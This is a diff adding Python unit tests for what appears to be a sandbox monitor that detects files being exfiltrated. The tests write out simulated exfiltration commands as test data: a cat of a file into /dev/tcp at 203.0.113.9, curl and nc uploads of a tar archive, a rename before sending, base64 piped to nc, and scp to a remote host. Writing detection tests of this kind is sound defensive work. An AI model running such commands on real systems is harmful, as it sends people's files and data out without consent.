@@ -57,3 +57,68 @@ def test_another_action_a_local_server_and_running_a_script_are_no_carrying() ->
     reads = opened(2, 3, Image="/usr/bin/base64", Script=FILE)
     assert found(start, reads, connected(3, 3))
     assert not found(start, opened(2, 3, Access="write create"), connected(3, 3))
+
+
+def started(seq: int, pid: int, *argv: str, image: str = "", cwd: str = "/tmp") -> Fact:
+    told = {"Image": image or f"/usr/bin/{argv[0]}", "CurrentDirectory": cwd}
+    return Fact(seq, "process_creation", "0", told, SANDBOX, pid, argv, action=1)
+
+
+def wrote(seq: int, pid: int, path: str) -> Fact:
+    return opened(seq, pid, TargetFilename=path, Access="write create truncate", Image="")
+
+
+def in_action(number: int, *facts: Fact) -> list[Fact]:
+    return [dataclasses.replace(fact, action=number) for fact in facts]
+
+
+SHELL = fork(0, 1, 2)
+
+
+def packed(image: str = "") -> list[Fact]:
+    """A program reads the file and writes another, and ends."""
+    tar = started(2, 3, "tar", "czf", "x.tgz", FILE, image=image)
+    reads = opened(3, 3, Image=image or "/usr/bin/tar")
+    return [SHELL, fork(1, 2, 3), tar, reads, wrote(4, 3, "/tmp/x.tgz"), ended(5, 3)]
+
+
+def test_what_was_made_of_it_is_followed_into_later_actions_and_under_other_names() -> None:
+    sends = [fork(6, 2, 4), started(7, 4, "curl", "-F", "file=@x.tgz"), connected(8, 4)]
+    assert found(*packed(), *in_action(2, *sends)) == [("B5", (3, 7, 8))]
+    moved = [fork(6, 2, 4), started(7, 4, "mv", "x.tgz", "notes.bin"), ended(8, 4)]
+    sends = [fork(9, 2, 5), started(10, 5, "nc", "--", "notes.bin"), connected(11, 5)]
+    assert found(*packed(), *moved, *in_action(3, *sends)) == [("B5", (3, 10, 11))]
+    piped = [
+        *(fork(6, 2, 4), fork(7, 2, 5), started(8, 4, "base64", "/tmp/x.tgz")),
+        *(started(9, 5, "nc", "host", "80"), connected(10, 5)),
+    ]
+    assert found(*packed(), *in_action(2, *piped)) == [("B5", (3, 8, 10))]
+
+
+def test_other_files_and_digests_are_not_it() -> None:
+    other = [fork(6, 2, 4), started(7, 4, "curl", "-T", "report.json"), connected(8, 4)]
+    assert not found(*packed(), *in_action(2, *other))
+    sends = [fork(6, 2, 4), started(7, 4, "curl", "-T", "x.tgz"), connected(8, 4)]
+    assert not found(*packed("/usr/bin/sha256sum"), *in_action(2, *sends))
+    session = [SHELL, wrote(1, 2, "/tmp/log"), fork(2, 2, 3), opened(3, 3), ended(4, 3)]
+    sends = [fork(6, 2, 4), started(7, 4, "curl", "-T", "log"), connected(8, 4)]
+    assert not found(*session, *in_action(2, *sends))
+
+
+def code_found(code: str, *facts: Fact) -> list[str]:
+    carriers = _Carriers({("0", FILE): {"B5"}}, {("0", 1): code})
+    return [one.behaviour for fact in facts for one in carriers.take(fact)]
+
+
+def test_a_connection_that_fails_before_the_file_is_opened_is_told_by_its_code() -> None:
+    shell = [SHELL, fork(1, 2, 3), connected(2, 3)]
+    assert code_found(f"cat {FILE} > /dev/tcp/203.0.113.9/80", *shell) == ["B5"]
+    assert code_found("cd /srv/pine; cat people.csv > /dev/tcp/203.0.113.9/80", *shell) == ["B5"]
+    assert not code_found("cat people.csv > /dev/tcp/203.0.113.9/80", *shell)
+    curl = started(2, 3, "curl", "http://203.0.113.9/")
+    assert not code_found(f"head {FILE}; curl http://203.0.113.9/", SHELL, shell[1], curl, shell[2])
+    pip = started(2, 3, "python3", "/usr/bin/pip", "install", "x", image="/usr/bin/python3.11")
+    assert not code_found(f"head {FILE}; pip install x", SHELL, shell[1], pip, shell[2])
+    scp = [fork(2, 3, 4), started(3, 4, "ssh", "u@host"), connected(4, 4)]
+    copies = started(1, 3, "scp", FILE, "u@host:")
+    assert code_found("", SHELL, fork(0, 2, 3), copies, *scp) == ["B5"]
